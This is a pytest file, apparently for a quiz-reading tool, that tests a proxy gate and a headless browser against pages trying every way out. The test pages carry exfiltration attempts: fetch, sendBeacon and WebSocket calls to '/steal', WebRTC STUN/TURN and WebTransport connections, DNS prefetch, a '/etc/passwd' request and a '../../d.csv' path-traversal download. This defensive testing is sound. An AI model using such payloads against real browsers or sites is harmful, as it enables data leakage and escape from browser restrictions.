"""The gate: what passes, by a client and by a page that tries every way out of its browser."""

from __future__ import annotations

import asyncio
import json
import socket
from collections.abc import Iterator
from contextlib import closing, contextmanager
from dataclasses import dataclass
from pathlib import Path

import httpx
import pytest

from quizlog_tui.webquiz.demo_server.web import quiz_server
from quizlog_tui.webquiz.net.address import allowed_for
from quizlog_tui.webquiz.net.gate import gate, through
from quizlog_tui.webquiz.page import browser as browser_module
from quizlog_tui.webquiz.page.browser import Browser
from quizlog_tui.webquiz.page.page import read_page
from tests.webquiz.conftest import needs_browser, open_contexts, shares_browser
from tests.webquiz.small_site import small_site, visiting

HERE = ("127.0.0.1", "localhost")


async def test_an_allowed_site_is_reached_and_others_are_not() -> None:
    with quiz_server() as own, quiz_server() as other:
        async with gate(allowed_for(own.url, (), HERE)) as way_out, through(way_out.url) as http:
            assert (await http.get(f"{own.url}/files/q23.json")).json()["dataset"] == 25000
            assert (await http.get(f"{other.url}/files/q23.json")).status_code == 403
            assert (await http.get(f"{other.url}/files/q12.csv")).status_code == 403
        assert other.hits == []
        assert len(way_out.refused) == 1


async def test_private_addresses_are_refused_though_their_site_is_allowed() -> None:
    with quiz_server() as server:
        async with gate(allowed_for(server.url)) as way_out, through(way_out.url) as http:
            assert (await http.get(server.first())).status_code == 403
        assert server.hits == []
        assert "private address" in way_out.refused[0]


async def test_a_name_that_leads_to_a_private_address_is_refused() -> None:
    with quiz_server() as server:
        url = server.url.replace("127.0.0.1", "localhost")
        async with gate(allowed_for(url)) as way_out, through(way_out.url) as http:
            assert (await http.get(url)).status_code == 403
        assert server.hits == []


async def test_redirects_are_let_through_to_allowed_sites_only() -> None:
    with (
        quiz_server() as other,
        small_site(
            {
                "/go": ("redirect", f"{other.url}/steal"),
                "/home": ("redirect", "/x"),
                "/x": ("html", "here"),
            }
        ) as site,
    ):
        async with gate(allowed_for(site.url, (), HERE)) as way_out, through(way_out.url) as http:
            assert (await http.get(f"{site.url}/home")).text == "here"
            assert (await http.get(f"{site.url}/go")).status_code == 403
        assert other.hits == []


async def test_tunnels_are_for_allowed_sites_only() -> None:
    async with gate(allowed_for("https://quiz.site")) as way_out, through(way_out.url) as http:
        with pytest.raises(httpx.ProxyError):
            await http.get("https://elsewhere.site/")
        assert way_out.refused == ["elsewhere.site:443: not an allowed site"]


@pytest.mark.parametrize(
    "sent",
    [
        b"nonsense\r\n\r\n",
        b"GET / HTTP/1.1\r\n\r\n",
        b"GET file:///etc/passwd HTTP/1.1\r\n\r\n",
        b"x" * 100_000,
    ],
)
async def test_nonsense_is_no_way_through(sent: bytes) -> None:
    async with gate(allowed_for("https://quiz.site")) as way_out:
        host, port = way_out.url.removeprefix("http://").split(":")
        reader, writer = await asyncio.open_connection(host, int(port))
        writer.write(sent)
        writer.write_eof()
        try:
            said = await reader.read()
        except ConnectionError:
            said = b""
        writer.close()
        assert not said or said.startswith(b"HTTP/1.1 403")


async def test_a_server_that_is_not_there_is_no_refusal() -> None:
    with socket.socket() as free:
        free.bind(("127.0.0.1", 0))
        url = f"http://127.0.0.1:{free.getsockname()[1]}/"
        async with gate(allowed_for(url, (), HERE)) as way_out, through(way_out.url) as http:
            assert (await http.get(url)).status_code == 502
        assert way_out.refused == []


PAGE = """<p>Question. POST the answer to /submit</p>
<img src="{other}/a.png"><iframe src="{other}/frame"></iframe><script src="{other}/x.js"></script>
<script>
fetch("{other}/steal").catch(() => 0); navigator.sendBeacon("{other}/steal", "x");
new WebSocket("{ws}/steal"); fetch("/away").catch(() => 0);
</script>"""


@shares_browser
async def test_a_page_reaches_no_other_site_in_a_browser(tmp_path: Path) -> None:
    with quiz_server() as other:
        html = PAGE.replace("{other}", other.url).replace("{ws}", other.url.replace("http", "ws"))
        pages = {
            "/p": ("html", html),
            "/away": ("redirect", f"{other.url}/steal"),
            "/gone": ("redirect", f"{other.url}/q05-table"),
        }
        async with visiting(pages, tmp_path) as (site, tab):
            snapshot = await tab.visit(f"{site.url}/p")
            assert "Question" in snapshot.frames[0].text
            assert (await tab.visit(f"{site.url}/gone")).status == 403
        assert other.hits == []
        assert site.gate.refused


LATE = """<div id=a></div><script>setTimeout(() => { a.innerText = "Late: post your answer" }, 800)</script>"""
CLOSED = """<div id=h></div><script>h.attachShadow({mode: "closed"}).innerHTML = "<p>Closed: submit 5</p>"</script>"""
FRAMED = """<iframe srcdoc="<p>Framed: submit 6</p>"></iframe>"""
HIDDEN = """<p>Intro</p><button onclick="q.hidden=false">Show question</button>
<button onclick="fetch('/sent',{method:'POST'})">Submit</button><p id=q hidden>Revealed: submit 7</p>"""
POLL = """<p>Polling: submit 8</p><script>fetch("/never")</script>"""
DOWN = """<p>Down: submit 9</p><script>const a=document.createElement("a");
a.href=URL.createObjectURL(new Blob(["x,y"]));a.download="../../d.csv";document.body.append(a);a.click()</script>"""
ALERT = """<script>alert("hello")</script><p>Alert: submit 10</p>"""


WAYS = {
    "Late": LATE, "Closed": CLOSED, "Framed": FRAMED, "Revealed": HIDDEN, "Polling": POLL,
    "Down": DOWN, "Alert": ALERT,
}  # fmt: skip


@shares_browser
async def test_whatever_way_a_page_shows_its_question_it_is_read(
    shared_browser: Browser, tmp_path: Path
) -> None:
    pages = {f"/{said}": ("html", html) for said, html in WAYS.items()}

    async def read(said: str) -> str:
        folder = tmp_path / said
        folder.mkdir()
        async with visiting(pages | {"/never": ("hang", "")}, folder) as (site, tab):
            snapshot = await tab.visit(f"{site.url}/{said}")
            assert "/sent" not in site.hits
            return read_page(snapshot, site.gate.allowed).question

    for said, question in zip(WAYS, await asyncio.gather(*map(read, WAYS)), strict=True):
        assert said in question
    assert [path.read_text() for path in tmp_path.glob("*/*")] == ["x,y"]
    assert open_contexts(shared_browser) == 0


async def test_no_answer_is_sent_on_a_connection_that_is_just_being_closed() -> None:
    with small_site({"http://quiz.site/submit": ("once", "here")}) as proxy:
        async with through(proxy.url) as http:
            for _ in range(2):
                assert (await http.post("http://quiz.site/submit")).text == "here"


async def test_a_question_is_asked_again_when_the_line_breaks_and_a_submission_is_not() -> None:
    with small_site({"/file": ("drop", "here"), "/submit": ("drop", "here")}) as site:
        async with gate(allowed_for(site.url, (), HERE)) as way_out, through(way_out.url) as http:
            assert (await http.get(f"{site.url}/file")).text == "here"
            with pytest.raises(httpx.RemoteProtocolError):
                await http.post(f"{site.url}/submit")
    assert site.hits == ["/file", "/file", "/submit"]


# -- ways out of a browser that do not lead through the gate


CALL = """
async function call(Connection) {
  const line = new Connection({ iceServers: [
    { urls: "stun:127.0.0.1:{udp}" },
    { urls: "turn:127.0.0.1:{udp}", username: "a", credential: "b" },
    { urls: "turn:127.0.0.1:{tcp}?transport=tcp", username: "a", credential: "b" },
  ] });
  line.createDataChannel("out");
  await line.setLocalDescription(await line.createOffer());
  await new Promise(done => {
    const look = () => line.iceGatheringState === "complete" ? done() : setTimeout(look, 20);
    look();
    setTimeout(done, 1000);  // where it is let out it waits for a reply
  });
}
"""
WEBRTC = f"""<p id=said>Loading…</p><iframe id=empty></iframe><iframe id=inner srcdoc="<p></p>"></iframe>
<script>{CALL}
addEventListener("load", async () => {{
  const windows = [window, empty.contentWindow, inner.contentWindow];
  const late = document.body.appendChild(document.createElement("iframe"));
  windows.push(late.contentWindow, open("about:blank"));
  const names = ["RTCPeerConnection", "webkitRTCPeerConnection"];
  const found = windows.flatMap(one => names.map(name => one && one[name])).filter(Boolean);
  for (const Connection of found) await call(Connection);
  said.textContent = `Question: ${{found.length}} ways found, submit`;
}});</script>"""
OTHERS = """<link rel=dns-prefetch href="//leak.invalid"><link rel=preconnect href="http://127.0.0.1:{tcp}">
<p id=said>Loading…</p><script>
const attempt = `new WebTransport("https://127.0.0.1:{udp}/").ready.catch(e => String(e))`;
const worker = new Worker(URL.createObjectURL(new Blob(
  [`(async () => postMessage(await ${attempt}))()`])));
addEventListener("load", async () => {
  const told = [await eval(attempt), await new Promise(done => worker.onmessage = m => done(m.data))];
  said.textContent = `Question: ${told.length} attempts, submit`;
});</script>"""


@dataclass
class Listeners:
    """Sockets that nobody should reach."""

    udp: socket.socket
    tcp: socket.socket

    def fill(self, page: str) -> str:
        for name, one in (("{udp}", self.udp), ("{tcp}", self.tcp)):
            page = page.replace(name, str(one.getsockname()[1]))
        return page

    def reached(self) -> list[str]:
        """What arrived so far."""
        found = []
        for name, take in (("udp", lambda: self.udp.recv(2000)), ("tcp", self.tcp.accept)):
            try:
                take()
            except BlockingIOError:
                continue
            found.append(name)
        return found


@contextmanager
def listeners() -> Iterator[Listeners]:
    with (
        closing(socket.socket(socket.AF_INET, socket.SOCK_DGRAM)) as udp,
        closing(socket.create_server(("127.0.0.1", 0))) as tcp,
    ):
        udp.bind(("127.0.0.1", 0))
        udp.setblocking(False)
        tcp.setblocking(False)
        yield Listeners(udp, tcp)


@pytest.mark.parametrize(
    ("page", "shown"), [(WEBRTC, "Question: 0 ways found"), (OTHERS, "Question: 2 attempts")]
)
@shares_browser
async def test_a_page_reaches_nobody_past_the_gate(page: str, shown: str, tmp_path: Path) -> None:
    """WebRTC is found in no window, and no other way to connect leads anywhere."""
    with listeners() as ways:
        async with visiting({"/p": ("html", ways.fill(page))}, tmp_path) as (site, tab):
            snapshot = await tab.visit(f"{site.url}/p")
        assert snapshot.frames[0].text.startswith(shown)
        assert ways.reached() == []


@shares_browser
async def test_webrtc_sends_nothing_past_the_gate_though_a_page_has_it(tmp_path: Path) -> None:
    """The browser's own settings hold it back: the script that removes it is not run here."""
    with listeners() as ways:
        async with visiting({"/p": ("html", ways.fill(WEBRTC))}, tmp_path) as (site, tab):
            assert tab.context.browser
            bare = await tab.context.browser.new_context(
                proxy={"server": site.gate.url, "bypass": "<-loopback>"}
            )
            shown = await bare.new_page()
            await shown.goto(f"{site.url}/p")
            await shown.wait_for_function("/[1-9][0-9]* ways found/.test(said.textContent)")
            await bare.close()
        assert ways.reached() == []


FORM = """<p>Question, submit</p><form><input name=email><input name=city><input type=password>
<input name=street></form>"""
LEAVES = ("TCP_CONNECT_ATTEMPT", "UDP_BYTES_SENT")
LOOKS_UP = ("DNS_TRANSACTION", "HOST_RESOLVER_SYSTEM_TASK", "HOST_RESOLVER_MDNS_TASK")


def network_events(path: Path) -> list[tuple[str, str]]:
    """What a browser's own log says of its network, by kind and address."""
    log = json.loads(path.read_text())
    kinds = {number: name for name, number in log["constants"]["logEventTypes"].items()}
    found = []
    for event in log["events"]:
        kind, address = kinds[event["type"]], event.get("params", {}).get("address", "")
        if kind in LOOKS_UP or (kind in LEAVES and address):  # an attempt ends without one
            found.append((kind, address))
    return found


@pytest.mark.long
@needs_browser()
async def test_the_browsers_own_services_reach_nobody(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    log = tmp_path / "network.json"
    flags = (*browser_module._FLAGS, f"--log-net-log={log}")
    monkeypatch.setattr(browser_module, "_FLAGS", flags)
    async with visiting({"/p": ("html", FORM)}, tmp_path) as (site, tab):
        for _ in range(3):
            await tab.visit(f"{site.url}/p")
    assert site.gate.refused == []
    gate_address = site.gate.url.removeprefix("http://")
    events = network_events(log)
    assert ("TCP_CONNECT_ATTEMPT", gate_address) in events
    assert {event for event in events if event[1] != gate_address} == set()
